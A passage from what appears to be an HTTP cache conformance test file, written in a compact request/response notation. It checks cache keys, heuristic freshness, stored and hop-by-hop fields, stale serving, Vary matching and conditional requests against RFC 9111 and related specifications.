> ?a=2
= miss
> ?a=1
= hit
case no query is not an empty one (4)
> ?
< Cache-Control: max-age=100
= miss
>
= miss
case the path's case counts (4)
> /a
< Cache-Control: max-age=100
= miss
> /A
= miss
case an escape of an unreserved character is that character (9110, 4.2.3)
> /%7Ea%62
< Cache-Control: max-age=100
= miss
> /~ab
= hit
case the case of an escape does not count (9110, 4.2.3)
> /%2Fa%c3%a4
< Cache-Control: max-age=100
= miss
> /%2fa%C3%A4
= hit
case an escaped slash is not a slash (9110, 4.2.3)
> /a%2Fb
< Cache-Control: max-age=100
= miss
> /a/b
= miss
case two slashes are not one (9110, 4.2.3)
> //a
< Cache-Control: max-age=100
= miss
> /a
= miss
case the host is part of the key (4)
only reverse
> | Host: one.example
< Cache-Control: max-age=100
= miss
> | Host: two.example
= miss
> | Host: one.example
= hit
case the host's case does not count (9110, 4.2.3)
only reverse
> | Host: one.example
< Cache-Control: max-age=100
= miss
> | Host: ONE.Example
= hit
case the port is part of the key (4)
only reverse
> | Host: one.example
< Cache-Control: max-age=100
= miss
> | Host: one.example:81
= miss

:group heuristic
# ---- heuristic freshness (9111, 4.2.2) ----
fresh 200 by Last-Modified :: 200 | Last-Modified: {-1000000}
fresh 203 by Last-Modified :: 203 | Last-Modified: {-1000000}
fresh 204 by Last-Modified :: 204 | Last-Modified: {-1000000}
fresh 300 by Last-Modified :: 300 | Last-Modified: {-1000000}
fresh 301 by Last-Modified :: 301 | Location: /a | Last-Modified: {-1000000}
fresh 308 by Last-Modified :: 308 | Location: /a | Last-Modified: {-1000000}
fresh 404 by Last-Modified :: 404 | Last-Modified: {-1000000}
fresh 405 by Last-Modified :: 405 | Last-Modified: {-1000000}
fresh 410 by Last-Modified :: 410 | Last-Modified: {-1000000}
fresh 414 by Last-Modified :: 414 | Last-Modified: {-1000000}
fresh 501 by Last-Modified :: 501 | Last-Modified: {-1000000}
stale not 201 :: 201 | Last-Modified: {-1000000}
stale not 202 :: 202 | Last-Modified: {-1000000}
stale not 299 :: 299 | Last-Modified: {-1000000}
stale not 302 :: 302 | Location: /a | Last-Modified: {-1000000}
stale not 307 :: 307 | Location: /a | Last-Modified: {-1000000}
stale not 400 :: 400 | Last-Modified: {-1000000}
stale not 403 :: 403 | Last-Modified: {-1000000}
stale not 500 :: 500 | Last-Modified: {-1000000}
stale not 502 :: 502 | Last-Modified: {-1000000}
stale not 503 :: 503 | Last-Modified: {-1000000}
stale not 504 :: 504 | Last-Modified: {-1000000}
stale not 599 :: 599 | Last-Modified: {-1000000}
fresh 201 that is public (5.2.2.9) :: 201 | Cache-Control: public | Last-Modified: {-1000000}
fresh 403 that is public (5.2.2.9) :: 403 | Cache-Control: public | Last-Modified: {-1000000}
fresh 599 that is public (5.2.2.9) :: 599 | Cache-Control: public | Last-Modified: {-1000000}
fresh 302 that is public (5.2.2.9) :: 302 | Location: /a | Cache-Control: public | Last-Modified: {-1000000}
fresh a tenth of the time since, below :: Last-Modified: {-1000} | Age: 80
stale a tenth of the time since, beyond :: Last-Modified: {-1000} | Age: 120
stale a tenth of the time since, by Date :: Last-Modified: {-1000} | Date: {-500}
stale modified now :: Last-Modified: {0} | Date: {0}
stale modified in the future :: Last-Modified: {+1000000}
stale modified at a time that is no date :: Last-Modified: yesterday
stale an ETag alone :: ETag: "a"
stale no-cache :: Cache-Control: no-cache | Last-Modified: {-1000000}
none no-store :: Cache-Control: no-store | Last-Modified: {-1000000}
fresh an unknown directive does not prevent it :: Cache-Control: foo | Last-Modified: {-1000000}

:group fields
# ---- fields that are stored (9111, 3.1) ----
case every end-to-end field is stored (3.1)
>
< Cache-Control: max-age=100, foo=bar, baz="a, b" | X-Unknown: a, b | Content-Type: text/x | Content-Encoding: x | Content-Language: de | ETag: "a" | Last-Modified: {-1000} | Expires: {+1000} | Link: </a>; rel=b | Server: them | Content-Security-Policy: default-src 'self' | Access-Control-Allow-Origin: * | Strict-Transport-Security: max-age=1 | Retry-After: 5 | Allow: GET | X-Empty:
= miss
>
= hit | Cache-Control: max-age=100, foo=bar, baz="a, b" | X-Unknown: a, b | Content-Type: text/x | Content-Encoding: x | Content-Language: de | ETag: "a" | Last-Modified: {-1000} | Expires: {+1000} | Link: </a>; rel=b | Server: them | Content-Security-Policy: default-src 'self' | Access-Control-Allow-Origin: * | Strict-Transport-Security: max-age=1 | Retry-After: 5 | Allow: GET | X-Empty:
case fields of several lines keep them in order (3.1)
>
< Cache-Control: max-age=100 | X-A: 1 | X-B: 2 | X-A: 3
= miss
>
= hit | X-A: 1, 3 | X-B: 2
case Set-Cookie is stored where freshness is explicit (3.1; 7.3)
>
< Cache-Control: max-age=100 | Set-Cookie: a=b | Set-Cookie: c=d
= miss
>
= hit | Set-Cookie: a=b, c=d
case Content-Length of a hit is the content's (3.1)
>
< Cache-Control: max-age=100 | body=0123456789
= miss
>
= hit | Content-Length: 10
case content that came chunked is stored (3.1)
>
< Cache-Control: max-age=100 | chunked | body=0123456789
= miss
>
= hit | body=0123456789
case what Connection names is not stored (3.1)
>
< Cache-Control: max-age=100 | Connection: X-Hop, x-two | X-Hop: 1 | X-Two: 2 | X-Stay: 3
= miss
>
= hit | -X-Hop | -X-Two | X-Stay: 3
case hop-by-hop fields are not stored (3.1)
>
< Cache-Control: max-age=100 | Keep-Alive: timeout=5 | Proxy-Authenticate: Basic realm="a" | Proxy-Authentication-Info: a | Proxy-Connection: keep-alive | Proxy-Authorization: Basic eDp5 | TE: trailers | Upgrade: foo
= miss
>
= hit | -Keep-Alive | -Proxy-Authenticate | -Proxy-Authentication-Info | -Proxy-Connection | -Proxy-Authorization | -TE | -Upgrade
case a trailer never becomes a field (3.1)
>
< raw=HTTP/1.1 200 OK\r\nCache-Control: max-age=100\r\nTransfer-Encoding: chunked\r\nTrailer: X-Late\r\n\r\n3\r\nabc\r\n0\r\nX-Late: 1\r\nCache-Control: no-store\r\n\r\n
= miss | body=abc | -X-Late
>
= hit | body=abc | -X-Late
case what a trailer says does not make fresh (3.1)
>
< raw=HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nTrailer: Cache-Control\r\n\r\n3\r\nabc\r\n0\r\nCache-Control: max-age=100\r\n\r\n
= miss | body=abc
>
= asked
case no Warning is made (5.5)
>
< Cache-Control: max-age=100 | Age: 90
= miss | -Warning
>
= hit | -Warning
case a Warning received changes nothing (5.5)
>
< Cache-Control: max-age=100 | Warning: 110 - "stale"
= miss
>
= hit
case 204 from the store has neither content nor length (9110, 8.6)
>
< 204 | Cache-Control: max-age=100
= miss
>
= hit | -Content-Length | -Transfer-Encoding
>
= hit
case a download is stored like anything else
>
< Cache-Control: max-age=100 | Content-Disposition: attachment; filename=a
= miss
>
= hit | Content-Disposition: attachment; filename=a
# ---- interim answers (9111, 3; 9110, 15.2) ----
case 103 is passed on and not merged (3)
>
< interim=103 Link: </a>; rel=preload | Cache-Control: max-age=100 | X-A: 1
= miss | interim=103 | -Link
>
= hit | interim= | -Link | X-A: 1
case 102 is passed on and not stored (3)
>
< interim=102 | Cache-Control: max-age=100
= miss | interim=102
>
= hit | interim=
case several interim answers (3)
>
< interim=103 Link: </a> | interim=102 | interim=103 Link: </b> | Cache-Control: max-age=100
= miss | interim=103,102,103
>
= hit | interim= | -Link
case freshness of an interim answer is nothing to the final one (3)
>
< interim=103 Cache-Control: max-age=100 | Cache-Control: no-store
= miss
>
= miss
case no-store of an interim answer is nothing to the final one (3)
>
< interim=103 Cache-Control: no-store | Cache-Control: max-age=100
= miss
>
= hit

:group stale
# ---- serving what is stale (9111, 4.2.4) ----
case the origin breaks off: an error or what is stored (4.2.4)
>
< Cache-Control: max-age=1
= miss
~ 2.1
>
< drop
= any | 200,502,504
case must-revalidate is never served stale (5.2.2.2)
>
< Cache-Control: max-age=1, must-revalidate, stale-if-error=1000, stale-while-revalidate=1000
= miss
~ 2.1
>
< drop
= any | 502,504
case proxy-revalidate is never served stale (5.2.2.8)
>
< Cache-Control: max-age=1, proxy-revalidate, stale-if-error=1000
= miss
~ 2.1
>
< drop
= any | 502,504
case s-maxage is never served stale when the origin breaks off (5.2.2.10)
>
< Cache-Control: s-maxage=1
= miss
~ 2.1
>
< drop
= any | 502,504
case no-cache is never served without the origin (5.2.2.4)
>
< Cache-Control: no-cache, max-age=100 | ETag: "a"
= miss
>
< drop
= any | 502,504
case must-revalidate is reused while fresh (5.2.2.2)
>
< Cache-Control: max-age=100, must-revalidate
= miss
>
< drop
= hit
case the ability to serve stale does not leak into ordinary expiry (4.2.4)
>
< Cache-Control: max-age=1, stale-if-error=1000
= miss
~ 2.1
>
= asked
# ---- stale-if-error (5861, 4) ----
case stale-if-error when the origin breaks off (5861, 4)
>
< Cache-Control: max-age=1, stale-if-error=1000
= miss
~ 2.1
>
< drop
= stale | Age: 2..9 | -Warning
case stale-if-error at 500 (5861, 4)
>
< Cache-Control: max-age=1, stale-if-error=1000
= miss
~ 2.1
>
< 500
= stale | 200
>
< Cache-Control: max-age=100
= asked
case stale-if-error at 502 (5861, 4)
>
< Cache-Control: max-age=1, stale-if-error=1000
= miss
~ 2.1
>
< 502
= stale | 200
case stale-if-error at 503 (5861, 4)
>
< Cache-Control: max-age=1, stale-if-error=1000
= miss
~ 2.1
>
< 503 | Retry-After: 5
= stale | 200
case stale-if-error at 504 (5861, 4)
>
< Cache-Control: max-age=1, stale-if-error=1000
= miss
~ 2.1
>
< 504
= stale | 200
case stale-if-error at a broken answer (5861, 4)
>
< Cache-Control: max-age=1, stale-if-error=1000
= miss
~ 2.1
>
< raw=foo\r\n\r\n | close
= stale | 200
case not at 404 (5861, 4)
>
< Cache-Control: max-age=1, stale-if-error=1000
= miss
~ 2.1
>
< 404
= asked
case not beyond its window (5861, 4)
>
< Cache-Control: max-age=10, stale-if-error=1 | Age: 8
= miss
~ 4.3
>
< 503
= asked
case nor by a broken connection beyond its window (5861, 4)
>
< Cache-Control: max-age=10, stale-if-error=1 | Age: 8
= miss
~ 4.3
>
< drop
= any | 502,504
case not where proxy-revalidate stands (5861, 4; 9111, 5.2.2.8)
>
< Cache-Control: max-age=1, proxy-revalidate, stale-if-error=1000
= miss
~ 2.1
>
< 503
= asked
case not where no-cache stands (9111, 5.2.2.4)
>
< Cache-Control: no-cache, stale-if-error=1000 | ETag: "a"
= miss
>
< 503
= asked
case against the client's no-cache or not (5861, 4; 9111, 5.2.1.4)
>
< Cache-Control: max-age=100, stale-if-error=1000
= miss
> | Cache-Control: no-cache
< 503
= any | 200,503
# ---- stale-while-revalidate (5861, 3) ----
case stale-while-revalidate answers at once and asks meanwhile (5861, 3)
>
< Cache-Control: max-age=1, stale-while-revalidate=1000
= miss
~ 2.1
>
< Cache-Control: max-age=100
= background | Age: 2..9 | -Warning
~ 1
>
= hit 2
case HEAD in that time leaves what GET brought as it is (5861, 3)
>
< Cache-Control: max-age=1, stale-while-revalidate=1000 | body=0123456789
= miss
~ 2.1
> HEAD
< Cache-Control: max-age=100 | body=
= any
~ 1
>
< Cache-Control: max-age=100 | body=0123456789
= any | body=0123456789
case it validates meanwhile (5861, 3)
>
< Cache-Control: max-age=1, stale-while-revalidate=1000 | ETag: "a"
= miss
~ 2.1
>
< 304 | Cache-Control: max-age=100 | ETag: "a"
= background | @If-None-Match: "a"
~ 1
>
= hit | Age: 0..3
case not beyond its window (5861, 3)
>
< Cache-Control: max-age=10, stale-while-revalidate=1 | Age: 8
= miss
~ 4.3
>
= asked
case a window of nothing (5861, 3)
>
< Cache-Control: max-age=1, stale-while-revalidate=0
= miss
~ 2.1
>
= asked
case not where must-revalidate stands (9111, 5.2.2.2)
>
< Cache-Control: max-age=1, must-revalidate, stale-while-revalidate=1000
= miss
~ 2.1
>
= asked
case not where s-maxage says proxy-revalidate (9111, 5.2.2.10)
>
< Cache-Control: s-maxage=1, proxy-revalidate, stale-while-revalidate=1000
= miss
~ 2.1
>
= asked
case not against the client's max-age (9111, 5.2.1.1)
>
< Cache-Control: max-age=1, stale-while-revalidate=1000
= miss
~ 2.1
> | Cache-Control: max-age=0
= asked
case not against the client's no-cache (9111, 5.2.1.4)
>
< Cache-Control: max-age=1, stale-while-revalidate=1000
= miss
~ 2.1
> | Cache-Control: no-cache
= asked
case an error meanwhile leaves what is stored (5861, 3)
>
< Cache-Control: max-age=1, stale-while-revalidate=1000, stale-if-error=1000
= miss
~ 2.1
>
< 503
= background
~ 0.5
>
< drop
= stale
# ---- immutable (8246, 2) ----
case immutable is reused while fresh, a reload too or not (8246, 2)
>
< Cache-Control: max-age=100, immutable | ETag: "a"
= miss
>
= hit
case immutable is stale when its time is over (8246, 2)
>
< Cache-Control: max-age=100, immutable | ETag: "a" | Age: 200
= miss
>
= asked

:group vary
# ---- Vary (9111, 4.1) ----
case a field that matches (4.1)
> | X-A: 1
< Cache-Control: max-age=100 | Vary: X-A
= miss
> | X-A: 1
= hit | Vary: X-A
case a field that does not match (4.1)
> | X-A: 1
< Cache-Control: max-age=100 | Vary: X-A
= miss
> | X-A: 2
= asked
case a value's case counts (4.1)
> | X-A: a
< Cache-Control: max-age=100 | Vary: X-A
= miss
> | X-A: A
= asked
case absent matches absent (4.1)
>
< Cache-Control: max-age=100 | Vary: X-A
= miss
>
= hit
case present does not match absent (4.1)
>
< Cache-Control: max-age=100 | Vary: X-A
= miss
> | X-A: 1
= asked
case absent does not match present (4.1)
> | X-A: 1
< Cache-Control: max-age=100 | Vary: X-A
= miss
>
= asked
case empty does not match absent (4.1)
> | X-A:
< Cache-Control: max-age=100 | Vary: X-A
= miss
>
= asked
case absent does not match empty (4.1)
>
< Cache-Control: max-age=100 | Vary: X-A
= miss
> | X-A:
= asked
> | X-A:
= hit 2
case a prefix does not match (4.1)
> | X-A: ab
< Cache-Control: max-age=100 | Vary: X-A
= miss
> | X-A: a
= asked
> | X-A: abc
= asked
case all fields named match (4.1)
> | X-A: 1 | X-B: 2
< Cache-Control: max-age=100 | Vary: X-A, X-B
= miss
> | X-B: 2 | X-A: 1 | X-C: 3
= hit
case one of two does not match (4.1)
> | X-A: 1 | X-B: 2
< Cache-Control: max-age=100 | Vary: X-A, X-B
= miss
> | X-A: 1 | X-B: 3
= asked
case values in each other's place do not match (4.1)
> | X-A: 1 | X-B: 2
< Cache-Control: max-age=100 | Vary: X-A, X-B
= miss
> | X-A: 2 | X-B: 1
= asked
case one of two is absent (4.1)
> | X-A: 1 | X-B: 2
< Cache-Control: max-age=100 | Vary: X-A, X-B
= miss
> | X-A: 1
= asked
case three fields on two lines (4.1)
> | X-A: 1 | X-B: 2 | X-C: 3
< Cache-Control: max-age=100 | Vary: X-A, X-B | Vary: X-C
= miss
> | X-A: 1 | X-B: 2 | X-C: 3
= hit
> | X-A: 1 | X-B: 2 | X-C: 4
= asked
case a name's case does not count (4.1)
> | x-a: 1
< Cache-Control: max-age=100 | Vary: X-a
= miss
> | X-A: 1
= hit
> | X-A: 2
= asked
case empty members of Vary (9110, 5.6.1)
> | X-A: 1
< Cache-Control: max-age=100 | Vary: , X-A ,,
= miss
> | X-A: 1
= hit
> | X-A: 2
= asked
stale a star is never reused (4.1) :: Cache-Control: max-age=100 | Vary: *
stale a star behind a name (4.1) :: Cache-Control: max-age=100 | Vary: X-A, *
stale a star before a name (4.1) :: Cache-Control: max-age=100 | Vary: *, X-A
stale a star on the second line (4.1) :: Cache-Control: max-age=100 | Vary: X-A | Vary: *
stale a star on the first line (4.1) :: Cache-Control: max-age=100 | Vary: * | Vary: X-A
stale a star among empty members (4.1) :: Cache-Control: max-age=100 | Vary: ,*,
case several variants are kept (4.1)
> | X-A: 1
< Cache-Control: max-age=100 | Vary: X-A
= miss
> | X-A: 2
= asked
>
= asked
> | X-A: 1
= hit
> | X-A: 2
= hit 2
>
= hit 3
case a newer variant replaces its like (4)
> | X-A: 1
< Cache-Control: max-age=100 | Vary: X-A
= miss
> | X-A: 1 | Cache-Control: no-cache
= asked
> | X-A: 1
= hit 2
case a variant that is asked for anew leaves the others (4.1)
> | X-A: 1
< Cache-Control: max-age=100 | Vary: X-A
= miss
> | X-A: 2
= asked
> | X-A: 2 | Cache-Control: no-cache
= asked
> | X-A: 1
= hit
> | X-A: 2
= hit 3
case variants by different fields (4.1)
> | X-A: 1
< Cache-Control: max-age=100 | Vary: X-A
= miss
> | X-A: 2 | X-B: 1
< Cache-Control: max-age=100 | Vary: X-B
= asked
> | X-A: 3 | X-B: 1
= hit 2
# ---- normalised (9111, 4.1) ----
case lines are combined (4.1)
> | X-A: 1 | X-A: 2
< Cache-Control: max-age=100 | Vary: X-A
= miss
> | X-A: 1, 2
= hit
case lines in another order do not match (4.1)
> | X-A: 1 | X-A: 2
< Cache-Control: max-age=100 | Vary: X-A
= miss
> | X-A: 2 | X-A: 1
= asked
case blanks around a value (4.1)
> | X-A: \x20\x20 1 \x20
< Cache-Control: max-age=100 | Vary: X-A
= miss
> | X-A: 1
= hit
case the order of codings (4.1)
> | Accept-Encoding: gzip, br
< Cache-Control: max-age=100 | Vary: Accept-Encoding
= miss
> | Accept-Encoding: br, gzip
= hit
case the case of codings (4.1)
> | Accept-Encoding: gzip
< Cache-Control: max-age=100 | Vary: Accept-Encoding
= miss
> | Accept-Encoding: GZip
= hit
case blanks among codings (4.1)
> | Accept-Encoding: gzip,br;q=0.5
< Cache-Control: max-age=100 | Vary: Accept-Encoding
= miss
> | Accept-Encoding: br ; q=0.5 , gzip
= hit
case codings differ (4.1)
> | Accept-Encoding: gzip
< Cache-Control: max-age=100 | Vary: Accept-Encoding | Content-Encoding: gzip
= miss
> | Accept-Encoding: br
= asked
case a coding that is refused (4.1; 9110, 12.5.3)
> | Accept-Encoding: gzip, br
< Cache-Control: max-age=100 | Vary: Accept-Encoding | Content-Encoding: gzip
= miss
> | Accept-Encoding: gzip;q=0, br
= asked
case no codings at all (4.1)
> | Accept-Encoding: gzip
< Cache-Control: max-age=100 | Vary: Accept-Encoding | Content-Encoding: gzip
= miss
>
= asked
case the order of languages (4.1)
> | Accept-Language: en, de
< Cache-Control: max-age=100 | Vary: Accept-Language
= miss
> | Accept-Language: de, en
= hit
case the case of languages (4.1)
> | Accept-Language: en-GB, de
< Cache-Control: max-age=100 | Vary: Accept-Language
= miss
> | Accept-Language: En-gb, DE
= hit
case blanks among languages (4.1)
> | Accept-Language: en,de;q=0.5
< Cache-Control: max-age=100 | Vary: Accept-Language
= miss
> | Accept-Language: de ; q=0.5 ,  en
= hit
case languages differ (4.1)
> | Accept-Language: en
< Cache-Control: max-age=100 | Vary: Accept-Language | Content-Language: en
= miss
> | Accept-Language: de
= asked
case languages preferred otherwise (4.1; 9110, 12.5.4)
> | Accept-Language: en;q=0.9, de
< Cache-Control: max-age=100 | Vary: Accept-Language | Content-Language: de
= miss
> | Accept-Language: en, de;q=0.9
= asked
case the language that q selects is there (4.1; 9110, 12.5.4)
> | Accept-Language: en
< Cache-Control: max-age=100 | Vary: Accept-Language | Content-Language: en
= miss
> | Accept-Language: de
< Cache-Control: max-age=100 | Vary: Accept-Language | Content-Language: de
= asked
> | Accept-Language: de;q=0.1, en;q=0.9
= maybe 1 | Content-Language: en

:group conditional
# ---- a client's conditions (9111, 4.3.2; 9110, 13) ----
case If-None-Match that matches: 304 with ETag (4.3.2)
>
< Cache-Control: max-age=100 | ETag: "a" | Vary: X-A | Content-Location: /c | Expires: {+1000}
= miss
> | If-None-Match: "a"
= hit | 304 | body= | ETag: "a" | Cache-Control: max-age=100 | Vary: X-A | Content-Location: /c | Expires: {+1000} | Date ~ GMT
>
= hit
case If-None-Match that does not match (4.3.2)
>
< Cache-Control: max-age=100 | ETag: "a"
= miss
> | If-None-Match: "b"
= hit | 200
case If-None-Match compares weakly, ours strong (9110, 13.1.2)
>
< Cache-Control: max-age=100 | ETag: "a"
= miss
> | If-None-Match: W/"a"
= hit | 304 | ETag: "a"
case If-None-Match compares weakly, ours weak (9110, 13.1.2)
>
< Cache-Control: max-age=100 | ETag: W/"a"
= miss
> | If-None-Match: "a"
= hit | 304 | ETag: W/"a"
case If-None-Match compares weakly, both weak (9110, 13.1.2)
>
< Cache-Control: max-age=100 | ETag: W/"a"
= miss
> | If-None-Match: W/"a"
= hit | 304
case If-None-Match of a list (9110, 13.1.2)
>
< Cache-Control: max-age=100 | ETag: "a"
= miss
> | If-None-Match: "x", W/"y" , "a","z"
= hit | 304
> | If-None-Match: "x", "y"
= hit | 200
case If-None-Match on two lines (9110, 13.1.2)
>
< Cache-Control: max-age=100 | ETag: "a"
= miss
> | If-None-Match: "x" | If-None-Match: "a"
= hit | 304
case If-None-Match of a tag with a comma (9110, 8.8.3)
>
< Cache-Control: max-age=100 | ETag: "a, b"
= miss
> | If-None-Match: "x", "a, b"
= hit | 304
> | If-None-Match: "a", "b"
= hit | 200
case a part of a tag does not match (9110, 8.8.3)
>
< Cache-Control: max-age=100 | ETag: "abc"
= miss
> | If-None-Match: "ab", "abcd", "bc", "ABC"
= hit | 200
case If-None-Match of a star (9110, 13.1.2)
>
< Cache-Control: max-age=100 | ETag: "a"
= miss
> | If-None-Match: *
= hit | 304
case If-None-Match where no tag is stored (9110, 13.1.2)
>
< Cache-Control: max-age=100
= miss
> | If-None-Match: "a"
= hit | 200
case If-None-Match over If-Modified-Since, not matching (4.3.2)
>
< Cache-Control: max-age=100 | ETag: "a" | Last-Modified: {-1000}
= miss
> | If-None-Match: "b" | If-Modified-Since: {-500}
= hit | 200
case If-None-Match over If-Modified-Since, matching (4.3.2)
>
< Cache-Control: max-age=100 | ETag: "a" | Last-Modified: {-1000}
= miss
> | If-None-Match: "a" | If-Modified-Since: {-5000}
= hit | 304
case If-Modified-Since of the same time (9110, 13.1.3)
>
< Cache-Control: max-age=100 | Last-Modified: {-1000}
= miss
> | If-Modified-Since: {-1000}
= hit | 304 | body=
case If-Modified-Since later (9110, 13.1.3)
>
< Cache-Control: max-age=100 | Last-Modified: {-1000}
= miss
> | If-Modified-Since: {-900}
= hit | 304
case If-Modified-Since earlier (9110, 13.1.3)
>
< Cache-Control: max-age=100 | Last-Modified: {-1000}
= miss
> | If-Modified-Since: {-1001}
= hit | 200
case If-Modified-Since in RFC 850 form (9110, 5.6.7)
>
< Cache-Control: max-age=100 | Last-Modified: {-1000}
= miss
> | If-Modified-Since: {-900 %A, %d-%b-%y %H:%M:%S GMT}
= hit | 304
> | If-Modified-Since: {-1100 %A, %d-%b-%y %H:%M:%S GMT}
= hit | 200
case If-Modified-Since in asctime form (9110, 5.6.7)
>
< Cache-Control: max-age=100 | Last-Modified: {-1000}
= miss
> | If-Modified-Since: {-900 %a %b %e %H:%M:%S %Y}
= hit | 304
> | If-Modified-Since: {-1100 %a %b %e %H:%M:%S %Y}
= hit | 200
case Last-Modified in RFC 850 form (9110, 5.6.7)
>
< Cache-Control: max-age=100 | Last-Modified: {-1000 %A, %d-%b-%y %H:%M:%S GMT}
= miss
> | If-Modified-Since: {-900}
= hit | 304
case If-Modified-Since that is no date (9110, 13.1.3)
>
< Cache-Control: max-age=100 | Last-Modified: {-1000}
= miss
> | If-Modified-Since: yesterday
= hit | 200
case If-Modified-Since without Last-Modified, before Date (4.3.2)
>
< Cache-Control: max-age=100 | Date: {-10}
= miss
> | If-Modified-Since: {-1000}
= hit | 200
case If-Modified-Since without Last-Modified, after Date (4.3.2)
>
< Cache-Control: max-age=100 | Date: {-10}
= miss
> | If-Modified-Since: {-5}
= hit | 200,304
case a condition of HEAD (9110, 13.1.2)
>
< Cache-Control: max-age=100 | ETag: "a"
= miss
> HEAD | If-None-Match: "a"
= hit | 304
case a condition on what is stored as 404 (9110, 13.2.1)
>
< 404 | Cache-Control: max-age=100 | ETag: "a"
= miss
> | If-None-Match: "a"
= hit | 404
case If-Match goes to the origin (4.3.2)
>
< Cache-Control: max-age=100 | ETag: "a"
= miss
> | If-Match: "b"
< 412
= asked | 412 | @If-Match: "b"
case If-Unmodified-Since goes to the origin (4.3.2)
>
< Cache-Control: max-age=100 | Last-Modified: {-1000}
= miss
> | If-Unmodified-Since: {-2000}
< 412
= asked | 412 | @If-Unmodified-Since: {-2000}
case a condition of another method goes to the origin (4.3.2)
>
< Cache-Control: max-age=100 | ETag: "a"
= miss
> PUT | If-None-Match: "a" | body=x
< 412
= asked | 412 | @If-None-Match: "a"
case a condition where nothing is stored (4.3.2)
> | If-None-Match: "a"
< 304 | ETag: "a" | Cache-Control: max-age=100
= any | 304
> | Cache-Control: max-age=60
= any | 200
case a 304 to a client's condition is not stored as an answer (3; 4.3.3)
> | If-None-Match: "a"
< raw=HTTP/1.1 304 Not Modified\r\nETag: "a"\r\nCache-Control: max-age=100\r\n\r\n
= any | 304
>
< 200 | ETag: "a"
= asked | 200
# ---- our conditions (9111, 4.3.1) ----
case the tag stored (4.3.1)
>
< Cache-Control: max-age=100 | Age: 200 | ETag: "a"
= miss
>
= validated | @If-None-Match: "a"
case a weak tag stored, as it came (4.3.1)
>
< Cache-Control: max-age=100 | Age: 200 | ETag: W/"a, b"
= miss
>
= validated | @If-None-Match: W/"a, b"
case the date stored (4.3.1)
>
< Cache-Control: max-age=100 | Age: 200 | Last-Modified: {-1000}
= miss
>
= validated | @If-Modified-Since: {-1000} | @-If-None-Match
case both stored (4.3.1)
>
< Cache-Control: max-age=100 | Age: 200 | ETag: "a" | Last-Modified: {-1000}
= miss
>
= validated | @If-None-Match: "a"
case nothing stored to go by (4.3.1)
>
< Cache-Control: max-age=1
= miss
~ 2.1
>
= asked | @-If-None-Match
case the client's no-cache validates (5.2.1.4)
>
< Cache-Control: max-age=100 | ETag: "a"
= miss
> | Cache-Control: no-cache
= validated | @If-None-Match: "a"
case the client's own tag is not mixed in (4.3.1)
>
< Cache-Control: max-age=100 | Age: 200 | ETag: "a"
= miss
> | If-None-Match: "z"
= validated | 200 | @If-None-Match: "a"
case nor is its date (4.3.1)
>
< Cache-Control: max-age=100 | Age: 200 | ETag: "a"
= miss
> | If-Modified-Since: {-5}
< 304 | ETag: "a"
= any | 200,304 | @If-None-Match: "a" | @-If-Modified-Since
case the client's tag is judged after validation (4.3.2)
>
< Cache-Control: max-age=100 | Age: 200 | ETag: "a"
= miss
> | If-None-Match: "a"
< 304 | ETag: "a" | Cache-Control: max-age=100
= any | 304 | @If-None-Match: "a"
>
= hit
case the client has what is new (4.3.2)
>
< Cache-Control: max-age=100 | Age: 200 | ETag: "a"
= miss
> | If-None-Match: "b"
< 200 | Cache-Control: max-age=100 | ETag: "b"
= any | 200,304 | @@1
>
= hit 2 | ETag: "b"
case a variant is validated by its own tag (4.3.1)
> | X-A: 1
< Cache-Control: max-age=100 | Age: 200 | Vary: X-A | ETag: "a"
= miss
> | X-A: 2
< Cache-Control: max-age=100 | Age: 200 | Vary: X-A | ETag: "b"
= asked
> | X-A: 1
< 304 | ETag: "a"
= validated 1 | @If-None-Match ~ "a"
# ---- what is said to them (9111, 4.3.3) ----
case 200 replaces what is stored (4.3.3)
>
< Cache-Control: max-age=100 | Age: 200 | ETag: "a" | X-A: 1
= miss
>
< Cache-Control: max-age=100 | ETag: "b" | X-B: 1
= asked | ETag: "b"
>
= hit 2 | ETag: "b" | -X-A | X-B: 1
case 404 is passed on (4.3.3)
>
< Cache-Control: max-age=100 | Age: 200 | ETag: "a"
= miss
>
< 404
= asked
case 404 with freshness replaces what is stored (4.3.3)
>
< Cache-Control: max-age=100 | Age: 200 | ETag: "a"
= miss
>
< 404 | Cache-Control: max-age=100
= asked
>
= hit 2
case 503 is passed on or stale is served, and not stored (4.3.3)
>
< Cache-Control: max-age=100 | Age: 200 | ETag: "a"
= miss
>
< 503
= any | 200,503
>
< 200 | Cache-Control: max-age=100
= asked

:group update
# ---- updating by 304 (9111, 3.2; 4.3.4) ----
case fields given are replaced, the rest is kept (3.2)
>
< Cache-Control: max-age=100 | Age: 200 | ETag: "a" | X-Old: 1 | X-Both: 1 | Content-Type: text/a
= miss
>
< 304 | Cache-Control: max-age=100 | ETag: "a" | X-Both: 2 | X-New: 2
= validated | X-Old: 1 | X-Both: 2 | X-New: 2 | Content-Type: text/a
>
= hit | X-Old: 1 | X-Both: 2 | X-New: 2 | Content-Type: text/a | Age: 0..2
case all lines of a field are replaced (3.2)
>
< Cache-Control: max-age=100 | Age: 200 | ETag: "a" | X-A: 1 | X-A: 2
= miss
>
< 304 | Cache-Control: max-age=100 | ETag: "a" | X-A: 3
= validated | X-A: 3
>
= hit | X-A: 3
case two lines replace one (3.2)
>
< Cache-Control: max-age=100 | Age: 200 | ETag: "a" | X-A: 1
= miss
>
< 304 | Cache-Control: max-age=100 | ETag: "a" | X-A: 3 | X-A: 4
= validated | X-A: 3, 4
>
= hit | X-A: 3, 4
case names are the same in any case (3.2)
>
< Cache-Control: max-age=100 | Age: 200 | ETag: "a" | X-Abc: 1
= miss
>
< 304 | cache-control: max-age=100 | etag: "a" | x-aBC: 2
= validated | X-Abc: 2
>
= hit | X-Abc: 2
case fields that describe the content are replaced too (3.2)
>
< Cache-Control: max-age=100 | Age: 200 | ETag: "a" | Content-Type: text/a | Content-Language: de | Expires: {-5}
= miss
>
< 304 | Cache-Control: max-age=100 | ETag: "a" | Content-Type: text/b | Content-Language: en | Expires: {+500}
= validated
>
= hit | Content-Type: text/b | Content-Language: en | Expires: {+500}
case Set-Cookie is replaced (3.2)
>
< Cache-Control: max-age=100 | Age: 200 | ETag: "a" | Set-Cookie: a=1
= miss
>
< 304 | Cache-Control: max-age=100 | ETag: "a" | Set-Cookie: a=2
= validated
>
= hit | Set-Cookie: a=2
case never Content-Length (3.2)
>
< Cache-Control: max-age=100 | Age: 200 | ETag: "a" | body=0123456789
= miss
>
< 304 | Cache-Control: max-age=100 | ETag: "a" | Content-Length: 3
= validated | body=0123456789
>
= hit | Content-Length: 10 | body=0123456789
